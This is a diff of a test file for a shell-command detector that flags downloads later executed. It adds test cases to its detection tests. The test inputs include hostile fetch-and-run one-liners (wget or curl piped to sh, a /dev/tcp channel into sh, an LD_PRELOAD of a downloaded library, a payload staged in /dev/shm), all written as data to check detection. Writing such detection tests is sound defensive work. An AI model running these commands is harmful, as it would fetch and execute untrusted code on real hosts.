@@ -23,6 +23,7 @@ describe("a download that the same line runs", () => {
     "wget http://203.0.113.9/k.tgz; tar xzf k.tgz; cd k; ./run",
     "exec 5<>/dev/tcp/192.0.2.4/80; echo x >&5; cat <&5 | sh",
     "$SHELL -c 'wget http://192.0.2.4/q -O q; chmod +x q; ./q'",
+    "wget http://192.0.2.4/q.so && LD_PRELOAD=./q.so ls",
     "ssh host 'curl http://files.example/i | sh'",
   ])("%s", (line) => {
     expect(clear(new ShellHost(downloadThenRun).line(line))).toHaveLength(1);
@@ -97,10 +98,13 @@ describe("a download that children of one parent run", () => {
     expect(host.run("./bot")).toEqual([]);
   });
 
-  test("also from shared memory", () => {
+  test("also from shared memory, and through tee", () => {
     const host = new ShellHost(downloadThenRunSiblings);
     host.run("curl -s http://192.0.2.4/bot -o /dev/shm/q");
     expect(host.run("/dev/shm/q")).toHaveLength(1);
+    host.run("curl -s http://192.0.2.4/bot");
+    host.run("tee /tmp/t");
+    expect(host.run("sh /tmp/t")).toHaveLength(1);
   });
 
   test("a file that the shell opened for a fetcher counts as fetched", () => {
